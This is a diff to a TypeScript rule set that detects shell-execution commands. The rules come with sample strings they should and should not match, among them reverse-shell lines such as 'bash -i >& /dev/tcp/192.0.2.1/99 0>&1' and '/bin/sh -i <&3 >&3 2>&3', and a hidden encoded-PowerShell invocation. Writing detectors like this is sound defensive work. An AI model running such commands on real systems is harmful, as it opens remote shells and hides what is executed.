@@ -23,18 +23,24 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
     keywords: ['sh -', 'sh  -', 'sh$ifs', 'sh${ifs', 'sh.exe -'],
     expression: expression(
       'gi',
-      String.raw`(?<![A-Za-z0-9_.-])${SHELL_NAME}(?:\.exe)?(?:[ \t]{1,4}|\$\{?IFS\}?(?:\$[0-9])?)-[a-z]{0,4}c[a-z]{0,2}`,
-      String.raw`(?:[ \t]{1,4}|\$\{?IFS\}?)(?=["'$\\\x60&A-Za-z/])[^\r\n]{3,160}`,
+      String.raw`(?<![A-Za-z0-9_.-])${SHELL_NAME}(?:\.exe)?(?:[ \t]{1,4}|\$\{?IFS\}?(?:\$[0-9])?)(?:--[a-z]{2,12}[ \t]{1,4})?-[a-z]{0,4}c[a-z]{0,2}`,
+      String.raw`(?:[ \t]{1,4}|\$\{?IFS\}?)(?=["'$\\\x60&A-Za-z/])[^\r\n]{2,160}`,
     ),
-    reach: { before: 8, after: 200 },
+    reach: { before: 8, after: 216 },
     describes: 'A shell that runs a command given as its argument.',
-    finds: [
-      'bash -c "id; uname -a"',
-      "sh -c 'cat notes.txt'",
-      '/bin/zsh -lc "npm test"',
-      'bash$IFS-c$IFS"id;ls"',
-    ],
-    ignores: ['bash -x script.sh', 'push -c color', 'The option of sh -c', 'ssh -c aes128-ctr host'],
+    get finds() {
+      return [
+        'bash -c "id; uname -a"',
+        "sh -c 'cat notes.txt'",
+        '/bin/zsh -lc "npm test"',
+        'bash$IFS-c$IFS"id;ls"',
+        '/bin/sh -c id',
+        'bash --norc -c "id"',
+      ];
+    },
+    get ignores() {
+      return ['bash -x script.sh', 'push -c color', 'The option of sh -c', 'ssh -c aes128-ctr host'];
+    },
   },
   {
     ...COMMON,
@@ -48,12 +54,16 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
     ),
     reach: { before: 4, after: 210 },
     describes: 'An argument list that starts a shell with a command.',
-    finds: [
-      '{"command":["bash","-lc","ls -la"]}',
-      String.raw`{"arguments":"{\"command\":[\"sh\", \"-c\", \"id; ls\"]}"}`,
-      "subprocess.run(['/bin/sh','-c','whoami'])",
-    ],
-    ignores: ['["bash","-x","a.sh"]', '["push","-c","abc"]', '["sh", "-c"]'],
+    get finds() {
+      return [
+        '{"command":["bash","-lc","ls -la"]}',
+        String.raw`{"arguments":"{\"command\":[\"sh\", \"-c\", \"id; ls\"]}"}`,
+        "subprocess.run(['/bin/sh','-c','whoami'])",
+      ];
+    },
+    get ignores() {
+      return ['["bash","-x","a.sh"]', '["push","-c","abc"]', '["sh", "-c"]'];
+    },
   },
   {
     ...COMMON,
@@ -72,10 +82,14 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
         before + text + after,
       ) &&
       !/^\S{2,5}\s{1,2}-i[a-z]{0,2}c/i.test(text) &&
-      /[0-9]?[<>]|\|/.test(text),
+      /[<>|]/.test(text.replace(/<\/?[a-z][^<>]{0,80}>/gi, '')),
     describes: 'An interactive shell whose input or output goes somewhere else.',
-    finds: ['/bin/sh -i <&3 >&3 2>&3', 'bash -i 2>&1', 'cat /tmp/f | sh -i 2>&1'],
-    ignores: ['bash -i', 'ssh -i key.pem host > log', 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'],
+    get finds() {
+      return ['/bin/sh -i <&3 >&3 2>&3', 'bash -i 2>&1', 'cat /tmp/f | sh -i 2>&1'];
+    },
+    get ignores() {
+      return ['bash -i', 'ssh -i key.pem host > log', 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'];
+    },
   },
   {
     ...COMMON,
@@ -89,8 +103,12 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
     ),
     reach: { before: 0, after: 190 },
     describes: 'The command interpreter of Windows with a command as its argument.',
-    finds: ['cmd /c whoami', 'cmd.exe /c "dir c:\\"', '["cmd","/c","whoami"]'],
-    ignores: ['cmd /cd', 'cmd.exe is there', 'the cmd /c'],
+    get finds() {
+      return ['cmd /c whoami', 'cmd.exe /c "dir c:\\"', '["cmd","/c","whoami"]'];
+    },
+    get ignores() {
+      return ['cmd /cd', 'cmd.exe is there', 'the cmd /c'];
+    },
   },
   {
     ...COMMON,
@@ -106,16 +124,20 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
     source:
       'https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_powershell_exe',
     describes: 'A PowerShell command that is encoded so that nobody reads it.',
-    finds: [
-      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
-      'pwsh.exe -EncodedCommand ZQBjAGgAbwAgACIAaABlAGwAbABvACIA',
-      '["powershell","-e","ZQBjAGgAbwAgACIAaABlAGwAbABvACIA"]',
-    ],
-    ignores: [
-      'powershell -ExecutionPolicy Bypass -File a.ps1',
-      'powershell -Command Get-Process',
-      'powershell -enc UTF8',
-    ],
+    get finds() {
+      return [
+        'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
+        'pwsh.exe -EncodedCommand ZQBjAGgAbwAgACIAaABlAGwAbABvACIA',
+        '["powershell","-e","ZQBjAGgAbwAgACIAaABlAGwAbABvACIA"]',
+      ];
+    },
+    get ignores() {
+      return [
+        'powershell -ExecutionPolicy Bypass -File a.ps1',
+        'powershell -Command Get-Process',
+        'powershell -enc UTF8',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -135,17 +157,21 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
     // Sockets make it a reverse shell, reported as one.
     validate: ({ text }) => !/socket|TCPSocket|IO::Socket|\.connect\(/i.test(text) && !/urlopen/.test(text),
     describes: 'A one-line script that starts a program.',
-    finds: [
-      'python3 -c \'import os; os.system("id")\'',
-      'perl -e \'exec "/bin/sh"\'',
-      'php -r \'system("id");\'',
-      'node -e \'require("child_process").execSync("id")\'',
-    ],
-    ignores: [
-      "python3 -c 'print(1)'",
-      'node -e "console.log(1)"',
-      "perl -pe 's/a/b/'",
-      'python -c "import sys; print(sys.version)"',
-    ],
+    get finds() {
+      return [
+        'python3 -c \'import os; os.system("id")\'',
+        'perl -e \'exec "/bin/sh"\'',
+        'php -r \'system("id");\'',
+        'node -e \'require("child_process").execSync("id")\'',
+      ];
+    },
+    get ignores() {
+      return [
+        "python3 -c 'print(1)'",
+        'node -e "console.log(1)"',
+        "perl -pe 's/a/b/'",
+        'python -c "import sys; print(sys.version)"',
+      ];
+    },
   },
 ];
